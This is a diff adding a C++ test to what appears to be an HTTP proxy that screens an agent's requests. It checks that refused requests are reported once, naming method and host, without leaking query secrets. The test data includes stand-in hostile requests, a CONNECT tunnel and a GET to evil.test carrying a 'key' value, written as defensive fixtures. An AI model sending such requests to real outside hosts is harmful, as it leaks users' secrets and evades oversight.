@@ -26,6 +26,27 @@ Request with_token(std::string path, std::string_view token) {
 }
 
 // The second request must not profit from the first one's being asked about.
+TEST(HttpAsk, what_is_refused_before_it_is_judged_is_an_incident) {
+  const std::pair<std::string_view, std::string_view> rows[] = {
+      {"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n", "`CONNECT` `evil.test:443`"},
+      {"GET http://evil.test/?key=hidden HTTP/1.1\r\nHost: evil.test\r\n\r\n", "`GET` `evil.test`"},
+      {"GET / HTTP/1.1\r\nHost: api.test\r\n\r\n", "this is a proxy"},
+      {"TRACE http://api.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n", "TRACE"},
+  };
+  for (const auto& [request, said] : rows) {
+    Talk talk(Talk::proxy(), std::nullopt);
+    talk.agent(request);
+    ASSERT_EQ(talk.reports.size(), 1u) << request;
+    EXPECT_NE(talk.reports[0].find(said), std::string::npos) << talk.reports[0];
+    EXPECT_EQ(talk.reports[0].find("hidden"), std::string::npos) << "a query may hold a secret";
+  }
+  Talk judged;
+  judged.holds = true;
+  judged.agent("GET / HTTP/1.1\r\nHost: api.test\r\n\r\n");
+  judged.deny(judged.asked.at(0).first);
+  EXPECT_TRUE(judged.reports.empty()) << "its verdict is on record";
+}
+
 TEST(HttpAsk, a_token_is_not_known_before_it_is_found_to_be) {
   Talk talk(door_with_token());
   talk.postpones = true;
